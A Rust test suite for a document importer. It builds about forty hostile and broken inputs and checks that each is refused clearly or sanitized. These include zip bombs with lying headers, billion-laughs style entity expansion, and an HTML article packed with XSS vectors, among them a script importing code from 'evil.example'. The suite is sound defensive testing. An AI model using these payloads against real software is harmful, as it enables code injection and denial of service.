//! A corpus of hostile and broken inputs, generated here (no binary fixtures): every one is
//! refused with one clear sentence and leaves the ledger byte for byte as it was, except the
//! HTML full of scripts, which imports with every script and handler stripped.
//!
//! Cases marked `needs_import` exercise the importer's format and encoding contract (DOCX,
//! PDF, HTML, declared encodings) and run in their own test.

mod support;

use std::io::Write;
use std::path::{Path, PathBuf};

use serde_json::{json, Value};
use support::{fingerprint, s, Ledger};

/// What a hostile input must produce.
enum Expect {
    /// Refused; the message contains one of these words (case-insensitive).
    Refused(&'static [&'static str]),
    /// Imported, and no stored text contains any of these (markup that must never survive).
    ImportedWithout(&'static [&'static str]),
}

struct Case {
    name: &'static str,
    /// The file handed to the CLI (`import` for issues, `import-json` for .json).
    file: PathBuf,
    expect: Expect,
    needs_import: bool,
}

const DECODE: &[&str] = &["decod", "not valid", "binary"];
const BINARY: &[&str] = &["binary", "not text", "decod", "not valid"];
const NO_TEXT: &[&str] = &["no text", "empty"];
const JSON_BAD: &[&str] = &["not valid", "missing", "expected", "invalid"];

/// The ledger every case runs against: one issue and one measure, so "unchanged" means
/// something.
fn ledger() -> Ledger {
    let l = Ledger::new();
    let f = l.file("existing.txt", support::issue_text(7, 5).as_bytes());
    l.run(&["import", s(&f)]);
    l.run(&["measures", "add", "--title", "已有措施"]);
    l
}

fn run_case(l: &Ledger, c: &Case) -> Result<(), String> {
    let is_json = c.file.extension().is_some_and(|e| e == "json");
    let before = fingerprint(&l.db());
    let out = if is_json {
        l.output(&["import-json", s(&c.file)])
    } else {
        l.output(&["import", s(&c.file)])
    };
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    if out.status.code() == Some(101) || stderr.contains("panicked") {
        return Err(format!("panicked: {stderr}"));
    }
    match c.expect {
        Expect::Refused(words) => {
            if out.status.success() {
                return Err(format!("was accepted: {stdout}"));
            }
            // The one line that explains: `error: …` or `failed PATH: …`.
            let lines: Vec<&str> = stderr.lines().filter(|l| !l.trim().is_empty()).collect();
            let [line] = lines.as_slice() else {
                return Err(format!("expected one line of explanation, got {stderr:?}"));
            };
            if !(line.starts_with("error: ") || line.starts_with("failed ")) {
                return Err(format!("not a user-facing error: {line:?}"));
            }
            if line.chars().count() > 400 {
                return Err(format!("message too long to read: {line:?}"));
            }
            // Match the reason only: the file's name (which names the case) must not count.
            let name = c.file.file_name().unwrap().to_str().unwrap();
            let lower = line
                .replace(s(&c.file), "")
                .replace(name, "")
                .to_lowercase();
            if !words.iter().any(|w| lower.contains(w)) {
                return Err(format!("message {line:?} says none of {words:?}"));
            }
            if fingerprint(&l.db()) != before {
                return Err("the ledger changed".into());
            }
        }
        Expect::ImportedWithout(banned) => {
            if !out.status.success() {
                return Err(format!("was refused: {stderr}"));
            }
            // Only the issue this case imported: "imported PATH as issue N: …".
            let Some(issue) = stdout
                .split(" as issue ")
                .nth(1)
                .and_then(|t| t.split(':').next())
            else {
                return Err(format!("no issue reported: {stdout}"));
            };
            let texts = l.run(&["articles", "--issue", issue, "--json"]);
            let lower = texts.to_lowercase();
            for b in banned {
                if lower.contains(b) {
                    return Err(format!("stored text contains {b:?}"));
                }
            }
            if !texts.contains("醴陵市出台支持外贸企业十二条措施") {
                return Err("the visible text was not kept".into());
            }
        }
    }
    Ok(())
}

fn check(cases: Vec<Case>, needs_import: bool) {
    let cases: Vec<Case> = cases
        .into_iter()
        .filter(|c| c.needs_import == needs_import)
        .collect();
    let l = ledger();
    let mut failures = vec![];
    for c in &cases {
        if let Err(e) = run_case(&l, c) {
            failures.push(format!("{}: {e}", c.name));
        }
    }
    eprintln!("{} hostile inputs checked", cases.len());
    assert!(
        failures.is_empty(),
        "{} of {} hostile inputs mishandled:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

#[test]
fn hostile_inputs_are_refused_clearly_and_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    check(corpus(dir.path()), false);
}

#[test]
fn hostile_inputs_for_the_rewritten_importer() {
    let dir = tempfile::tempdir().unwrap();
    check(corpus(dir.path()), true);
}

#[test]
fn the_corpus_has_at_least_forty_inputs() {
    let dir = tempfile::tempdir().unwrap();
    assert!(corpus(dir.path()).len() >= 40);
}

#[test]
fn the_base_json_document_imports_so_each_json_case_tests_its_own_fault() {
    let l = ledger();
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("base.json");
    std::fs::write(&f, base_document().to_string()).unwrap();
    let out = l.run(&["import-json", s(&f)]);
    assert!(out.starts_with("imported 1 issues"), "{out}");
    // The same document saved by an editor that writes a byte-order mark.
    let with_bom = dir.path().join("bom.json");
    std::fs::write(&with_bom, format!("\u{feff}{}", base_document())).unwrap();
    let out = ledger().run(&["import-json", s(&with_bom)]);
    assert!(out.starts_with("imported 1 issues"), "{out}");
}

// ---------------------------------------------------------------------------------------------
// The corpus.

fn corpus(dir: &Path) -> Vec<Case> {
    let mut cases = vec![];
    // Cases that name a path rather than bytes (appended at the end).
    let mut extra = vec![];
    let mut add = |name: &'static str, bytes: Vec<u8>, ext: &str, expect, needs_import| {
        let file = dir.join(format!("{name}.{ext}"));
        std::fs::write(&file, bytes).unwrap();
        cases.push(Case {
            name,
            file,
            expect,
            needs_import,
        });
    };
    let text = "株洲日报\n醴陵出台十二条\n醴陵市出台支持外贸企业十二条措施。".as_bytes();
    let mut rng = fastrand::Rng::with_seed(8);

    // Files that are not text, or are text in no valid encoding.
    add("empty", vec![], "txt", Expect::Refused(&["empty"]), false);
    add(
        "whitespace_only",
        b" \n\t\r\n \n".to_vec(),
        "txt",
        Expect::Refused(NO_TEXT),
        false,
    );
    add(
        "bom_only",
        b"\xEF\xBB\xBF".to_vec(),
        "txt",
        Expect::Refused(NO_TEXT),
        false,
    );
    add(
        "newlines_only",
        vec![b'\n'; 1 << 20],
        "txt",
        Expect::Refused(NO_TEXT),
        false,
    );
    add(
        "random_bytes",
        (0..4096).map(|_| rng.u8(..)).collect(),
        "txt",
        Expect::Refused(BINARY),
        false,
    );
    add(
        "png_named_txt",
        [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".as_slice(), &[0u8; 64]].concat(),
        "txt",
        Expect::Refused(BINARY),
        false,
    );
    add(
        "gzip_named_txt",
        [b"\x1f\x8b\x08\x00".as_slice(), &[0x03; 64], &[0xff; 8]].concat(),
        "txt",
        Expect::Refused(BINARY),
        false,
    );
    add(
        "truncated_utf8_at_end",
        text[..text.len() - 1].to_vec(),
        "txt",
        Expect::Refused(DECODE),
        false,
    );
    add(
        "lone_continuation_byte",
        [&text[..20], b"\x80", &text[20..]].concat(),
        "txt",
        Expect::Refused(DECODE),
        false,
    );
    add(
        "overlong_encoding",
        [text, b"\xC0\xAF"].concat(),
        "txt",
        Expect::Refused(DECODE),
        false,
    );
    add(
        "encoded_surrogate",
        [text, b"\xED\xA0\x80"].concat(),
        "txt",
        Expect::Refused(DECODE),
        false,
    );
    add(
        "utf8_bom_then_gbk",
        [b"\xEF\xBB\xBF".as_slice(), &gbk_sample()].concat(),
        "txt",
        Expect::Refused(DECODE),
        false,
    );
    add(
        "html_declares_utf8_holds_gbk",
        [
            b"<html><head><meta charset=\"utf-8\"></head><body><p>".as_slice(),
            &gbk_sample(),
            b"</p></body></html>",
        ]
        .concat(),
        "html",
        Expect::Refused(DECODE),
        false,
    );
    add(
        "utf16_bom_lone_surrogate",
        b"\xFF\xFE\x00\xD8\x41\x00".to_vec(),
        "txt",
        Expect::Refused(DECODE),
        false,
    );
    add(
        "nul_bytes_in_text",
        [text, b"\0\0\0", text].concat(),
        "txt",
        Expect::Refused(BINARY),
        true,
    );
    add(
        "all_nul",
        vec![0; 1000],
        "txt",
        Expect::Refused(BINARY),
        true,
    );
    add(
        "elf_header",
        [b"\x7fELF\x02\x01\x01".as_slice(), &[0u8; 57]].concat(),
        "txt",
        Expect::Refused(BINARY),
        true,
    );
    add(
        "control_characters",
        (0..2000).map(|i| (i % 8 + 1) as u8).collect(),
        "txt",
        Expect::Refused(BINARY),
        true,
    );

    // Size: one 100 MB line (over the 64 MB limit, refused before it is read).
    let big = dir.join("line_100mb.txt");
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&big).unwrap());
        let chunk = "很长的一行".repeat(1 << 14).into_bytes();
        let mut written = 0;
        while written < 100 << 20 {
            f.write_all(&chunk).unwrap();
            written += chunk.len();
        }
    }
    extra.push(Case {
        name: "line_100mb",
        file: big,
        expect: Expect::Refused(&["more than", "too large"]),
        needs_import: false,
    });
    let sub = dir.join("a_directory.txt");
    std::fs::create_dir_all(&sub).unwrap();
    extra.push(Case {
        name: "a_directory",
        file: sub,
        expect: Expect::Refused(&["read", "directory"]),
        needs_import: false,
    });
    extra.push(Case {
        name: "missing_file",
        file: dir.join("does-not-exist.txt"),
        expect: Expect::Refused(&["read", "no such file"]),
        needs_import: false,
    });

    // Containers.
    const BOMB: &[&str] = &["expands", "too large", "more than", "not unpacked"];
    const BROKEN: &[&str] = &[
        "could not read",
        "damaged",
        "not text, html, docx or pdf",
        "no text",
    ];
    add(
        "docx_bomb",
        docx(&[("word/document.xml", DocxEntry::Inflates(80 << 20))]),
        "docx",
        Expect::Refused(BOMB),
        true,
    );
    add(
        "docx_bomb_lying_size",
        docx(&[("word/document.xml", DocxEntry::LiesAbout(80 << 20))]),
        "docx",
        // Refused either as a bomb or as a damaged archive (its checksum cannot match): what
        // matters is that it is never inflated.
        Expect::Refused(&[
            "expands",
            "too large",
            "more than",
            "not unpacked",
            "could not read",
            "damaged",
        ]),
        true,
    );
    let media: Vec<String> = (0..20_000).map(|i| format!("word/media/{i}.bin")).collect();
    add(
        "docx_too_many_entries",
        docx(
            &media
                .iter()
                .map(|n| (n.as_str(), DocxEntry::Plain(b"x")))
                .collect::<Vec<_>>(),
        ),
        "docx",
        Expect::Refused(&["expands", "too many", "entries", "not unpacked"]),
        true,
    );
    let doc_xml = r#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>醴陵市出台支持外贸企业十二条措施</w:t></w:r></w:p></w:body></w:document>"#.as_bytes();
    let whole = docx(&[("word/document.xml", DocxEntry::Plain(doc_xml))]);
    // The control: the same hand-made archive, well formed, imports. So the cases around it
    // fail for their own fault, not because the archive writer is wrong.
    add(
        "docx_well_formed_control",
        docx(&[("word/document.xml", DocxEntry::Plain(doc_xml))]),
        "docx",
        Expect::ImportedWithout(&["<w:"]),
        true,
    );
    add(
        "docx_truncated",
        whole[..whole.len() / 2].to_vec(),
        "docx",
        Expect::Refused(BROKEN),
        true,
    );
    add(
        "docx_without_document_xml",
        docx(&[("word/other.xml", DocxEntry::Plain(doc_xml))]),
        "docx",
        Expect::Refused(BROKEN),
        true,
    );
    add(
        "docx_document_not_xml",
        docx(&[(
            "word/document.xml",
            DocxEntry::Plain(b"\x00\x01 not xml <<<"),
        )]),
        "docx",
        Expect::Refused(BROKEN),
        true,
    );
    add(
        "docx_entity_expansion",
        docx(&[("word/document.xml", DocxEntry::Plain(br#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&d;&d;&d;&d;&d;&d;</w:t></w:r></w:p></w:body></w:document>"#))]),
        "docx",
        // Refused without expanding the entities (quick-xml never expands custom ones).
        Expect::Refused(BROKEN),
        true,
    );
    add(
        "pdf_without_text",
        pdf_without_text(),
        "pdf",
        Expect::Refused(&["text layer", "no text"]),
        true,
    );
    add(
        "pdf_truncated",
        pdf_without_text()[..60].to_vec(),
        "pdf",
        Expect::Refused(BROKEN),
        true,
    );
    add(
        "pdf_header_then_garbage",
        [
            b"%PDF-1.7\n".as_slice(),
            &(0..2048).map(|_| rng.u8(..)).collect::<Vec<_>>(),
        ]
        .concat(),
        "pdf",
        Expect::Refused(BROKEN),
        true,
    );

    // Markup that attacks the webview: it must import as plain text, with nothing executable.
    add(
        "html_scripts_and_handlers",
        hostile_html().into_bytes(),
        "html",
        Expect::ImportedWithout(&[
            "<script",
            "alert(",
            "onerror",
            "onload",
            "javascript:",
            "<img",
            "<iframe",
            "<svg",
            "<style",
            "color:red",
        ]),
        true,
    );
    add(
        "html_only_scripts",
        b"<html><head><script>alert(1)</script><style>p{}</style></head><body><script>document.write('x')</script></body></html>".to_vec(),
        "html",
        Expect::Refused(NO_TEXT),
        true,
    );

    // JSON interchange documents.
    let mut json_case = |name: &'static str, doc: Value, words: &'static [&'static str]| {
        add(
            name,
            doc.to_string().into_bytes(),
            "json",
            Expect::Refused(words),
            false,
        );
    };
    let base = base_document();
    let with = |f: &dyn Fn(&mut Value)| {
        let mut d = base.clone();
        f(&mut d);
        d
    };
    json_case("json_array", json!([]), &["one json object"]);
    json_case(
        "json_wrong_format",
        with(&|d| d["format"] = json!("other-app")),
        &["format"],
    );
    json_case(
        "json_version_2",
        with(&|d| d["version"] = json!(2)),
        &["version 2"],
    );
    json_case(
        "json_version_0",
        with(&|d| d["version"] = json!(0)),
        &["version 0"],
    );
    json_case(
        "json_version_missing",
        with(&|d| {
            d.as_object_mut().unwrap().remove("version");
        }),
        &["\"version\" is missing"],
    );
    json_case(
        "json_version_as_text",
        with(&|d| d["version"] = json!("1")),
        &["must be a whole number"],
    );
    json_case(
        "json_missing_issues",
        with(&|d| {
            d.as_object_mut().unwrap().remove("issues");
        }),
        &["issues"],
    );
    json_case(
        "json_measure_missing_title",
        with(&|d| {
            d["measures"][0].as_object_mut().unwrap().remove("title");
        }),
        &["title"],
    );
    json_case(
        "json_article_missing_text",
        with(&|d| {
            d["issues"][0]["articles"][0]
                .as_object_mut()
                .unwrap()
                .remove("text");
        }),
        &["text"],
    );
    json_case(
        "json_duplicate_uid",
        with(&|d| {
            let u = d["measures"][0]["uid"].clone();
            d["measures"][1]["uid"] = u;
        }),
        &["twice"],
    );
    json_case(
        "json_duplicate_measure_id",
        with(&|d| {
            let i = d["measures"][0]["id"].clone();
            d["measures"][1]["id"] = i;
        }),
        &["twice"],
    );
    json_case(
        "json_duplicate_article_id",
        with(&|d| {
            let a = d["issues"][0]["articles"][0].clone();
            d["issues"][0]["articles"].as_array_mut().unwrap().push(a);
        }),
        &["twice"],
    );
    json_case(
        "json_duplicate_issue",
        with(&|d| {
            let i = d["issues"][0].clone();
            d["issues"].as_array_mut().unwrap().push(i);
        }),
        &["twice"],
    );
    json_case(
        "json_span_past_article_end",
        with(&|d| {
            let len = quote_len(d);
            d["measures"][0]["sources"][0]["start"] = json!(100_000);
            d["measures"][0]["sources"][0]["end"] = json!(100_000 + len);
        }),
        &["span"],
    );
    json_case(
        "json_span_quote_mismatch",
        with(&|d| {
            let q: String = "错".repeat(quote_len(d) as usize);
            d["measures"][0]["sources"][0]["quote"] = json!(q);
        }),
        &["span"],
    );
    json_case(
        "json_span_reversed",
        with(&|d| {
            d["measures"][0]["sources"][0]["end"] = d["measures"][0]["sources"][0]["start"].clone();
        }),
        &["span"],
    );
    json_case(
        "json_span_negative",
        with(&|d| d["measures"][0]["sources"][0]["start"] = json!(-1)),
        JSON_BAD,
    );
    json_case(
        "json_span_unknown_article",
        with(&|d| d["measures"][0]["sources"][0]["article_id"] = json!(999_999)),
        &["article 999999"],
    );
    json_case(
        "json_invalid_date",
        with(&|d| d["measures"][0]["effective_from"] = json!("2020-02-30")),
        JSON_BAD,
    );
    json_case(
        "json_date_wrong_shape",
        with(&|d| d["measures"][0]["expires_on"] = json!("2020/12/31")),
        JSON_BAD,
    );
    json_case(
        "json_issue_date_invalid",
        with(&|d| d["issues"][0]["date"] = json!("2020-13-01")),
        JSON_BAD,
    );
    json_case(
        "json_expiry_before_effective",
        with(&|d| {
            d["measures"][0]["effective_from"] = json!("2020-12-31");
            d["measures"][0]["expires_on"] = json!("2020-01-01");
        }),
        &["before"],
    );
    json_case(
        "json_parent_missing",
        with(&|d| d["measures"][0]["parent_id"] = json!(424_242)),
        &["parent"],
    );
    json_case(
        "json_parent_is_itself",
        with(&|d| {
            let id = d["measures"][0]["id"].clone();
            d["measures"][0]["parent_id"] = id;
        }),
        &["parent", "own items"],
    );
    json_case(
        "json_parent_cycle",
        with(&|d| {
            let a = d["measures"][0]["id"].clone();
            let b = d["measures"][1]["id"].clone();
            d["measures"][0]["parent_id"] = b;
            d["measures"][1]["parent_id"] = a;
        }),
        &["parent", "cycle"],
    );
    json_case(
        "json_uid_not_uuid",
        with(&|d| d["measures"][0]["uid"] = json!("x".repeat(36))),
        &["uuid"],
    );
    json_case(
        "json_blank_title",
        with(&|d| d["measures"][0]["title"] = json!("   ")),
        &["title"],
    );
    json_case(
        "json_unknown_status",
        with(&|d| d["measures"][0]["status"] = json!("approved")),
        &["approved", "variant"],
    );
    json_case(
        "json_unknown_value_kind",
        with(&|d| d["measures"][0]["value"] = json!({"kind": "bitcoin"})),
        &["bitcoin", "variant"],
    );
    json_case(
        "json_revision_overflows",
        with(&|d| d["measures"][0]["revision"] = json!(1u64 << 40)),
        JSON_BAD,
    );
    json_case(
        "json_bad_sha256",
        with(&|d| d["issues"][0]["sha256"] = json!("abc")),
        &["issue", "check"],
    );
    json_case(
        "json_clashes_with_the_ledger",
        with(&|d| {
            d["issues"][0]["id"] = json!(1);
        }),
        &["already in the ledger"],
    );
    // Raw texts that no serialiser would write.
    let raw = base.to_string();
    let mut raw_case = |name: &'static str, text: Vec<u8>, words: &'static [&'static str]| {
        add(name, text, "json", Expect::Refused(words), false);
    };
    raw_case("json_empty_file", vec![], JSON_BAD);
    raw_case(
        "json_truncated",
        raw.as_bytes()[..raw.len() / 2].to_vec(),
        JSON_BAD,
    );
    raw_case(
        "json_duplicate_key",
        raw.replacen("{\"format\"", "{\"format\":\"x\",\"format\"", 1)
            .into_bytes(),
        &["duplicate"],
    );
    raw_case(
        "json_deeply_nested",
        // 100,000 levels where a typed value is expected: refused, never a stack overflow.
        {
            assert!(raw.contains("\"value\":null"));
            let deep = format!("\"value\":{}{}", "[".repeat(100_000), "]".repeat(100_000));
            raw.replacen("\"value\":null", &deep, 1).into_bytes()
        },
        &["recursion", "invalid type"],
    );
    raw_case(
        "json_invalid_utf8",
        [raw.as_bytes(), b"\xff\xfe"].concat(),
        &["utf-8", "read"],
    );
    raw_case(
        "json_not_json_at_all",
        b"format=policy-ledger\nversion=1\n".to_vec(),
        JSON_BAD,
    );
    raw_case(
        "json_lone_surrogate_in_text",
        raw.replacen("\"text\":\"", "\"text\":\"\\ud800", 1)
            .into_bytes(),
        &["surrogate", "hex escape"],
    );
    cases.extend(extra);
    cases
}

/// GBK bytes of Chinese text: invalid as UTF-8.
fn gbk_sample() -> Vec<u8> {
    // 醴陵市出台 in GBK.
    b"\xd9\xb5\xc1\xea\xca\xd0\xb3\xf6\xcc\xa8".repeat(20)
}

fn quote_len(d: &Value) -> i64 {
    let s = &d["measures"][0]["sources"][0];
    s["end"].as_i64().unwrap() - s["start"].as_i64().unwrap()
}

/// An interchange document that imports into `ledger()`: one issue with two articles and two
/// measures (the first cites the text), ids far from the ledger's own.
fn base_document() -> Value {
    let scratch = Ledger::new();
    let f = scratch.file(
        "base.txt",
        "醴陵出台十二条\n醴陵市出台支持外贸企业十二条措施。电价按原到户电价水平的95%结算。\n"
            .as_bytes(),
    );
    scratch.run(&["import", s(&f)]);
    let articles: Value = serde_json::from_str(&scratch.run(&["articles", "--json"])).unwrap();
    let article = &articles[0];
    let aid = article["id"].to_string();
    scratch.run(&[
        "measures",
        "add",
        "--title",
        "电价优惠",
        "--article",
        &aid,
        "--start",
        "0",
        "--end",
        "4",
    ]);
    scratch.run(&["measures", "add", "--title", "展位补贴"]);
    let mut d: Value = serde_json::from_str(&scratch.run(&["export", "--format", "json"])).unwrap();
    // Move every id out of the way of the ledger the cases run against.
    let shift = |v: &mut Value| *v = json!(v.as_i64().unwrap() + 1000);
    for i in d["issues"].as_array_mut().unwrap() {
        shift(&mut i["id"]);
        for a in i["articles"].as_array_mut().unwrap() {
            shift(&mut a["id"]);
            shift(&mut a["issue_id"]);
        }
    }
    for m in d["measures"].as_array_mut().unwrap() {
        shift(&mut m["id"]);
        for s in m["sources"].as_array_mut().unwrap() {
            shift(&mut s["article_id"]);
        }
    }
    d
}

enum DocxEntry {
    Plain(&'static [u8]),
    /// A document.xml that inflates to this many bytes, with its true size in the headers.
    Inflates(usize),
    /// The same, but the headers claim 1 KB.
    LiesAbout(usize),
}

/// A ZIP archive written by hand (stored or deflated entries), so hostile headers are possible.
fn docx(entries: &[(&str, DocxEntry)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    let content_types = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
    // (name, data, method, crc, compressed size, uncompressed size as claimed)
    type Entry<'a> = (&'a str, Vec<u8>, u16, u32, u32, u32);
    let mut all: Vec<Entry> = vec![];
    let plain = |data: &[u8]| {
        let mut crc = flate2::Crc::new();
        crc.update(data);
        (
            data.to_vec(),
            0u16,
            crc.sum(),
            data.len() as u32,
            data.len() as u32,
        )
    };
    let (d, m, c, cs, us) = plain(content_types);
    all.push(("[Content_Types].xml", d, m, c, cs, us));
    for (name, e) in entries {
        let (data, method, crc, csize, usize_) = match e {
            DocxEntry::Plain(b) => plain(b),
            DocxEntry::Inflates(n) | DocxEntry::LiesAbout(n) => {
                let head = br#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>"#;
                let mut enc =
                    flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
                let mut crc = flate2::Crc::new();
                enc.write_all(head).unwrap();
                crc.update(head);
                let spaces = vec![b' '; 1 << 20];
                for _ in 0..n / spaces.len() {
                    enc.write_all(&spaces).unwrap();
                    crc.update(&spaces);
                }
                let data = enc.finish().unwrap();
                let claimed = if matches!(e, DocxEntry::LiesAbout(_)) {
                    1024
                } else {
                    crc.amount()
                };
                (data.clone(), 8, crc.sum(), data.len() as u32, claimed)
            }
        };
        all.push((name, data, method, crc, csize, usize_));
    }
    for (name, data, method, crc, csize, usize_) in &all {
        let offset = out.len() as u32;
        let header = |sig: u32, central: bool| {
            let mut h = Vec::new();
            h.extend(sig.to_le_bytes());
            if central {
                h.extend(20u16.to_le_bytes());
            }
            h.extend(20u16.to_le_bytes()); // version needed
            h.extend(0u16.to_le_bytes()); // flags
            h.extend(method.to_le_bytes());
            h.extend([0u8; 4]); // time, date
            h.extend(crc.to_le_bytes());
            h.extend(csize.to_le_bytes());
            h.extend(usize_.to_le_bytes());
            h.extend((name.len() as u16).to_le_bytes());
            h.extend(0u16.to_le_bytes()); // extra
            if central {
                h.extend([0u8; 6]); // comment length, disk number, internal attributes
                h.extend(0u32.to_le_bytes()); // external attrs
                h.extend(offset.to_le_bytes());
            }
            h.extend(name.as_bytes());
            h
        };
        out.extend(header(0x0403_4b50, false));
        out.extend(data);
        central.extend(header(0x0201_4b50, true));
    }
    let cd_offset = out.len() as u32;
    out.extend(&central);
    out.extend(0x0605_4b50u32.to_le_bytes());
    out.extend([0u8; 4]);
    out.extend((all.len().min(0xffff) as u16).to_le_bytes());
    out.extend((all.len().min(0xffff) as u16).to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(cd_offset.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

/// A well-formed one-page PDF whose only content is a line drawing: no text layer at all.
fn pdf_without_text() -> Vec<u8> {
    let content = b"0 0 m 200 200 l S\n";
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_string(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_string(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>".to_string(),
        format!(
            "<< /Length {} >>\nstream\n{}endstream",
            content.len(),
            String::from_utf8_lossy(content)
        ),
    ];
    let mut pdf = b"%PDF-1.4\n".to_vec();
    let mut offsets = vec![];
    for (i, o) in objects.iter().enumerate() {
        offsets.push(pdf.len());
        pdf.extend(format!("{} 0 obj\n{o}\nendobj\n", i + 1).bytes());
    }
    let xref = pdf.len();
    pdf.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for o in offsets {
        pdf.extend(format!("{o:010} 00000 n \n").bytes());
    }
    pdf.extend(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .bytes(),
    );
    pdf
}

/// An article whose markup tries every way to run code in a webview.
fn hostile_html() -> String {
    r#"<!DOCTYPE html><html><head><meta charset="utf-8"><title>株洲日报</title>
<script>alert('head')</script><style>p { color:red }</style>
<base href="javascript:alert(1)//"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">
</head><body onload="alert('body')">
<h1 onclick="alert('h1')">醴陵出台十二条</h1>
<p>醴陵市出台支持外贸企业十二条措施。<img src=x onerror="alert('img')"></p>
<p><a href="javascript:alert('link')">点击</a><a href="JaVaScRiPt:alert(2)">再点</a></p>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<iframe src="javascript:alert('iframe')"></iframe>
<script type="module">import('https://evil.example/x.js')</script>
<noscript><p>noscript</p></noscript>
<p>电价按原到户电价水平的95%结算。</p>
</body></html>"#
        .to_string()
}

// ---------------------------------------------------------------------------------------------
// Property tests of the CLI's date parsing (each case runs the binary, so the count is small;
// `PROPTEST_CASES=500` runs more).

mod dates {
    use proptest::prelude::*;

    use super::support::Ledger;

    /// Strings near the date syntax: real dates, impossible ones, other shapes, junk.
    fn date_like() -> impl Strategy<Value = String> {
        prop_oneof![
            (1900i32..2100, 1u32..13, 1u32..32)
                .prop_map(|(y, m, d)| format!("{y:04}-{m:02}-{d:02}")),
            (0i32..10000, 0u32..20, 0u32..40).prop_map(|(y, m, d)| format!("{y}-{m}-{d}")),
            "[0-9]{4}[-/.年][0-9]{1,2}[-/.月][0-9]{1,2}日?",
            " ?[0-9]{4}-[0-9]{2}-[0-9]{2} ?",
            ".{0,12}",
        ]
    }

    fn strict_date(s: &str) -> Option<chrono::NaiveDate> {
        let t = s.trim();
        (t.len() == 10)
            .then(|| chrono::NaiveDate::parse_from_str(t, "%Y-%m-%d").ok())
            .flatten()
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

        /// `--effective` takes exactly the civil dates written YYYY-MM-DD; anything else is
        /// refused with one sentence and writes nothing.
        #[test]
        fn effective_date_is_stored_exactly_or_refused(text in date_like()) {
            prop_assume!(!text.trim().is_empty()); // "" clears the date: not a parse
            prop_assume!(!text.contains('\0')); // no program argument can hold a NUL
            let l = Ledger::new();
            // `--flag=value`, so a value starting with "-" is not taken for a flag.
            let out = l.output(&["measures", "add", "--title", "t", &format!("--effective={text}")]);
            let expected = strict_date(&text);
            prop_assert_eq!(out.status.success(), expected.is_some(), "{:?}: {}", text, String::from_utf8_lossy(&out.stderr));
            let list = l.run(&["measures", "list", "--json"]);
            let rows: serde_json::Value = serde_json::from_str(&list).unwrap();
            match expected {
                Some(d) => prop_assert_eq!(rows[0]["effective_from"].as_str().map(str::to_string), Some(d.to_string())),
                None => {
                    let err = String::from_utf8_lossy(&out.stderr);
                    prop_assert!(err.starts_with("error: ") && err.contains("YYYY-MM-DD"), "{}", err);
                    prop_assert_eq!(rows.as_array().map(Vec::len), Some(0));
                }
            }
        }

        /// An expiry is never stored before its effective date.
        #[test]
        fn expiry_is_never_before_the_effective_date(
            a in (2000i32..2030, 1u32..13, 1u32..29),
            b in (2000i32..2030, 1u32..13, 1u32..29),
        ) {
            let d = |(y, m, dd): (i32, u32, u32)| chrono::NaiveDate::from_ymd_opt(y, m, dd).unwrap();
            let (from, to) = (d(a), d(b));
            let l = Ledger::new();
            let out = l.output(&["measures", "add", "--title", "t", "--effective", &from.to_string(), "--expires", &to.to_string()]);
            prop_assert_eq!(out.status.success(), to >= from, "{} → {}", from, to);
            let rows: serde_json::Value = serde_json::from_str(&l.run(&["measures", "list", "--json"])).unwrap();
            for m in rows.as_array().unwrap() {
                prop_assert!(m["expires_on"].as_str() >= m["effective_from"].as_str());
            }
        }
    }
}
